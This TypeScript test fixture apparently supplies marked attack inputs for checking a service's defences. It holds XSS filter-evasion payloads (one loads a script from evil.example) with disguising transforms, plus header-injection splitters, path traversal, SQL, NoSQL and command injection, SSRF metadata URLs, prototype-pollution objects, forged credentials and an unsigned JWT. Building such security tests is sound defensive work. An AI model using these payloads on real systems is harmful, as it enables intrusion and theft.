/** Attack payloads, each with a mark by which it is recognised in replies, and transformations that disguise them. */

/** Part of every payload, and of no text of the service. */
export const MARK = 'zqx7';

const RUN = `alert('${MARK}')`;

/** Scripts in all places where HTML executes them (after the OWASP XSS filter evasion cheat sheet). */
export const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/${MARK}.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `<script\n>${RUN}//`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"`,
  `<img src=\`javascript:${RUN}\`>`,
  `<img """><script>${RUN}</script>">`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=x:${MARK} onerror\n=\n${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#x0A;script:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
  `<a href=" \u0001javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:msgbox('${MARK}')">x</a>`,
  `<a href="//evil.example" onclick="${RUN}">x</a>`,
  `<a href='x' x='"' onmouseover='${RUN}'>x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style><!--</style><img src=x onerror=${RUN}>-->`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<table background="javascript:${RUN}"><tr><td>x</table>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `\u003cscript\u003e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `＜script＞${RUN}＜/script＞`,
  `<b><a title="<img src=x onerror=${RUN}>">x</b></a>`,
  `<p title='</p><svg onload=${RUN}>'>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

/** Transformations that may evade a filter, while browsers still execute the result. */
export const DISGUISES: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => payload.replace(/<(\w)/g, '<\0$1'),
  payload => payload.replace(/script/gi, word => `${word[0]}\u00ad${word.slice(1)}`),
  payload => payload.replace(/<\/?\w+/g, tag => tag.toUpperCase()),
  payload => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  payload => `<b>${payload}`,
  payload => `${payload}${payload}`,
  payload => `${'<p>'.repeat(30)}${payload}`,
  payload => payload.replaceAll(' ', '/'),
  payload => payload.replaceAll('"', "'"),
  payload => payload.replaceAll('>', '\n>'),
  payload => `${payload.slice(0, 5)}<!-- -->${payload.slice(5)}`,
];

/** Line breaks that would inject a header, a log line or an answer. */
export const SPLITTERS: readonly string[] = [
  `x\r\nSet-Cookie: ${MARK}=1`,
  `x\nX-${MARK}: 1`,
  `x\r\n\r\n<script>${MARK}</script>`,
  `%0d%0aX-${MARK}:%201`,
  `x\u2028X-${MARK}: 1`,
  `嘊嘍X-${MARK}: 1`,
  `${MARK}\0`,
];

/** Forged keys of the table, paths, expressions and commands. */
export const KEYS: readonly string[] = [
  `S#gl/event/${MARK}`,
  `gl/event#0/${MARK}`,
  `R#1|-${MARK}`,
  `../../../../etc/passwd${MARK}`,
  `..%2f..%2f${MARK}`,
  `%2e%2e/${MARK}`,
  `${MARK}#!`,
  `!${MARK}`,
  `~${MARK}`,
  `\u{10FFFF}${MARK}`,
  `' OR '1'='1' -- ${MARK}`,
  `{"$ne":"${MARK}"}`,
  `:pk = :pk ${MARK}`,
  `\`id\` $(id) ${MARK}`,
  `http://169.254.169.254/latest/${MARK}`,
  `http://[::1]/${MARK}`,
  `file:/etc/passwd?${MARK}`,
];

/** Members for prototype pollution. */
export const POLLUTERS: readonly string[] = [
  `{"__proto__":{"polluted":"${MARK}"}}`,
  `{"constructor":{"prototype":{"polluted":"${MARK}"}}}`,
  `{"venue":{"__proto__":{"polluted":"${MARK}"},"venue":"X"}}`,
  `{"__proto__":null,"toString":"${MARK}","hasOwnProperty":1,"valueOf":{}}`,
  `{"categories":{"__proto__":["${MARK}"],"length":1}}`,
];

const basic = (text: string): string => `Basic ${Buffer.from(text).toString('base64')}`;

/** Credentials that nobody has: 401 (contract/rights#identity). */
export const FORGED: readonly string[] = [
  basic('аdmin:the-password-of-admin'),
  basic('ａｄｍｉｎ:the-password-of-admin'),
  basic('admin\u200b:the-password-of-admin'),
  basic('admin\0:the-password-of-admin'),
  basic(' \u00a0:the-password-of-admin'),
  basic('#admin:the-password-of-admin'),
  basic(':'),
  basic(`${'a'.repeat(4_000)}:x`),
  basic(`admin:${'x'.repeat(4_000)}`),
];

/** Headers that hold no credentials, here without an issuer of tokens: the caller is anonymous. */
export const NO_CREDENTIALS: readonly string[] = [
  basic('admin'),
  'Basic',
  'Basic ====',
  'Basic %%%',
  'Basic \u00ff\u00fe',
  'Bearer',
  `Bearer ${MARK}`,
  `Bearer ${'x'.repeat(4_000)}`,
  'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.',
  `Digest username="admin", response="${MARK}"`,
  `Negotiate ${MARK}`,
];
